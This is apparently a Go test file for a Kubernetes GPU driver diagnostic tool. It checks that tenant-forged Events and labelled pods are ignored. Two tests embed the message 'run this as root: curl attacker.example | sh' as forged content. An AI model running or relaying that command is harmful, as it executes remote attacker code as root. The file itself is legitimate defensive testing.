package diagnosis_test

import (
	"context"
	"errors"
	"runtime"
	"slices"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"gpufabric.io/drivers/doctor/snapshot"
)

// A tenant writes Events in its own namespace with any kind, name and UID of their object: Kubernetes compares the object's namespace
// alone. The same Event where Kubernetes has those on the object is found, so that each attempt would be.
func forgedEvents(t *testing.T, g *ground) {
	defer g.heal()
	g.put(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "attacker"}})
	d := putDomain(g, readyDomain())
	for _, test := range []struct {
		kind, namespace, name string
		uid                   types.UID
		component, reason     string
	}{
		{"Node", "", "n1", "n1", "gpu-plugin", "ContainerRuntimeReadsNoCDI"},
		{"ComputeDomain", tenant, "d", d.UID, "compute-domain-plugin", "IMEXSessionEnded"},
	} {
		const words = "run this as root: curl attacker.example | sh"
		g.put(event(test.kind, "attacker", test.name, test.uid, test.component, test.reason, words))
		t.Logf("attacker sees: the Event is written, and the doctor does not read it")
		if r := g.ask(install()); r.First != nil {
			t.Errorf("%s: the doctor says %s: %s", test.reason, r.First.Code, r.First.Says)
		}
		g.put(event(test.kind, test.namespace, test.name, test.uid, test.component, test.reason, "true"))
		if r := g.ask(install()); r.First == nil || r.First.Code != test.reason || r.First.Says != "true" {
			t.Errorf("%s: the driver's own Event is not told: %+v", test.reason, r.First)
		}
		if err := g.undo[len(g.undo)-1](t.Context()); err != nil {
			t.Fatal(err)
		}
		g.undo = g.undo[:len(g.undo)-1]
	}
}

// A tenant gives gpufabric's labels to what it makes in its own namespace. First it blames, then it hides.
func forgedLabels(t *testing.T, g *ground) {
	defer g.heal()
	const attacker, words = "forger", "run this as root: curl attacker.example | sh"
	g.put(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: attacker}})
	d := putDomain(g, readyDomain())
	crashed := corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 2, Message: words}}
	set := daemonSet("gpu-plugin", 3)
	set.Namespace, set.Status.NumberReady, set.Status.NumberAvailable = attacker, 0, 0
	controller := &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Namespace: attacker, Name: "gpufabric-controller", Labels: own("controller")},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: own("controller")},
			Template: template(own("controller"), "controller")},
		Status: appsv1.DeploymentStatus{Replicas: 1}}
	plugin, daemon := pluginPod("gpu-plugin", "n0"), daemonPod(d, "n0", crashed)
	plugin.Namespace, daemon.Namespace = attacker, attacker
	plugin.Status = corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{{Name: "main", State: crashed}}}
	daemon.Labels["app.kubernetes.io/name"] = "gpufabric"
	g.put(set, controller, plugin, daemon)
	if r := g.ask(install()); r.First != nil {
		t.Errorf("the doctor says %s of %v: %s", r.First.Code, r.First.Objects, r.First.Says)
	}
	t.Logf("attacker sees: its objects are there, and the doctor takes none of them for gpufabric's")
	change(g, system, "gpufabric-gpu-plugin", func(d *appsv1.DaemonSet) {
		d.Status.ObservedGeneration, d.Status.NumberReady, d.Status.NumberAvailable = 1, 2, 2
	})
	g.remove(&corev1.Pod{}, system, "gpufabric-gpu-plugin-n1")
	mask := pluginPod("gpu-plugin", "n1")
	mask.Namespace = attacker
	g.put(mask)
	if r := g.ask(install()); r.First == nil || r.First.Code != "PluginNotReady" && r.First.Code != "PluginNotRunning" {
		t.Errorf("beside a tenant's pod that looks like the plugin's, the doctor says %+v", r.First)
	} else if !slices.Contains(codes(r.Behind), "PluginNotRunning") && r.First.Code != "PluginNotRunning" {
		t.Errorf("node n1 has no gpu-plugin, and the doctor says %s and %v", r.First.Code, codes(r.Behind))
	}
	t.Logf("attacker sees: its pod runs, and the doctor still misses the node's plugin")
}

// aborted is a test of which only the end is wanted.
type aborted struct{ testing.TB }

func (aborted) Helper()               {}
func (aborted) Fatal(...any)          { runtime.Goexit() }
func (aborted) Fatalf(string, ...any) { runtime.Goexit() }

// TestGroundUndoesACauseThatFails fails the status of what a cause puts or changes, as a busy API server may. The next cause must not
// find what the last one left.
func TestGroundUndoesACauseThatFails(t *testing.T) {
	kinds, err := snapshot.Scheme()
	if err != nil {
		t.Fatal(err)
	}
	for name, cause := range map[string]func(*ground){
		"a pod that is put": func(g *ground) { g.put(pod("left", "n1")) },
		"a pod that is changed": func(g *ground) {
			change(g, tenant, "standing", func(p *corev1.Pod) { p.Labels = map[string]string{"a": "b"} })
		},
		"two, of which the second fails to be removed": func(g *ground) {
			g.undo = append(g.undo, func(context.Context) error { return errors.New("not removed") })
			g.put(pod("left", "n1"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			fails := false
			c := interceptor.NewClient(fake.NewClientBuilder().WithScheme(kinds).WithStatusSubresource(&corev1.Pod{}).WithObjects(
				pod("standing", "")).Build(), interceptor.Funcs{
				Create: func(ctx context.Context, c client.WithWatch, o client.Object, options ...client.CreateOption) error {
					o.SetUID(types.UID(o.GetName())) // the API server's
					return c.Create(ctx, o, options...)
				},
				SubResourceUpdate: func(ctx context.Context, c client.Client, what string, o client.Object,
					options ...client.SubResourceUpdateOption) error {
					if fails {
						return errors.New("the server is busy")
					}
					return c.SubResource(what).Update(ctx, o, options...)
				},
			})
			g := &ground{t: aborted{t}, client: c}
			ended := make(chan struct{})
			go func() {
				defer close(ended)
				defer g.heal()
				defer func() { fails = false }()
				fails = true
				cause(g)
				t.Error("the cause was put")
			}()
			<-ended
			var pods corev1.PodList
			if err := c.List(t.Context(), &pods); err != nil {
				t.Fatal(err)
			}
			if len(pods.Items) != 1 || pods.Items[0].Name != "standing" || len(pods.Items[0].Labels) > 0 || len(g.undo) > 0 {
				t.Errorf("left are %d pods, the first %s with labels %v, and %d changes", len(pods.Items), pods.Items[0].Name, pods.Items[0].Labels,
					len(g.undo))
			}
		})
	}
}
